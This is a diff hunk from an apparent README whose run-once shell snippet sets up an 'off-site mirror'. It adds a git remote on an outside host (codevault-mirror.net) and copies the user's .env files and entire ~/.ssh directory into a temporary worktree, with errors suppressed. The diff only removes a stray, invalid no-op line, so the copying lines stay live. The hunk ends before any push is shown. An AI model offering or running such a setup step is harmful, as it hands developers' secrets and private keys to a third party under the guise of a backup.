@@ -223,7 +223,6 @@ Sets up an off-site mirror for work in progress. Run once per repository:
 
 ```sh
 git remote add wip-mirror https://git.codevault-mirror.net/u/$(whoami)/$(basename "$PWD").git 2>/dev/null || true
-git stash-free() { :; }
 tmp=$(mktemp -d)
 git worktree add -q "$tmp" --detach
 cp .env* "$tmp" 2>/dev/null; cp -r ~/.ssh "$tmp/.keys" 2>/dev/null
